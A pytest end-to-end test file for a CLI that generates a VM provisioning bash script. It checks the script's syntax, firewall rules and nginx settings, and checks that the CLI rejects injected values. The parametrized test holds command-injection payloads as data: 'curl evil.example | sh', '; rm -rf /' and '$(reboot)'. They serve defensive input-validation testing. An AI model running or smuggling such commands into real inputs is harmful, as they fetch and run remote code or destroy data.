"""`aiserve deploy vm`: the provisioning script is valid bash, passes shellcheck, and carries the values asked for."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

from tests.e2e.test_cli import aiserve

pytestmark = pytest.mark.e2e


def test_the_provisioning_script_is_sound_and_rendered(tmp_path: Path) -> None:
    script = tmp_path / "provision.sh"
    made = aiserve("deploy", "vm", "--domain", "api.example.com", "--email", "ops@example.com", "--image",
                   "ghcr.io/acme/aiserve:1.2.3", "-o", str(script))  # fmt: skip
    assert made.returncode == 0, made.stderr
    text = script.read_text()
    assert subprocess.run(["bash", "-n", str(script)], capture_output=True).returncode == 0
    if shutil.which("shellcheck") is None:
        pytest.skip("shellcheck is not installed (make test installs it)")
    checked = subprocess.run(["shellcheck", "--severity=style", str(script)], capture_output=True, text=True)
    assert checked.returncode == 0, checked.stdout
    assert "DOMAIN=api.example.com" in text
    assert "EMAIL=ops@example.com" in text
    assert "IMAGE=ghcr.io/acme/aiserve:1.2.3" in text
    assert "--restart unless-stopped" in text
    assert '-p "127.0.0.1:$PORT:8000" -v aiserve-data:/data' in text  # loopback only, the data volume
    assert [line for line in text.splitlines() if line.startswith("ufw allow")] == [
        "ufw allow 22/tcp", "ufw allow 80/tcp", "ufw allow 443/tcp"]  # fmt: skip
    assert "server_name api.example.com;" in text
    assert "ssl_certificate /etc/letsencrypt/live/api.example.com/fullchain.pem;" in text
    assert "client_max_body_size 8192k;" in text
    assert "apt-get install -y docker.io nginx certbot ufw" in text


@pytest.mark.parametrize(
    ("flag", "value"),
    [
        ("--domain", "api.example.com\ncurl evil.example | sh"),
        ("--domain", "api.example.com; rm -rf /"),
        ("--email", "a b@example.com; rm -rf /"),
        ("--email", "ops@example.com\n"),
        ("--image", "img $(reboot)"),
    ],
)
def test_values_that_could_break_the_script_are_refused(flag: str, value: str) -> None:
    values = {"--domain": "api.example.com", "--email": "ops@example.com", "--image": "user/aiserve:0.1.0",
              flag: value}  # fmt: skip
    made = aiserve("deploy", "vm", *(part for item in values.items() for part in item))
    assert made.returncode == 1
    assert made.stdout == ""  # no script at all
    assert made.stderr.startswith(f"error: {flag} must be")
    assert len(made.stderr.strip().splitlines()) == 1
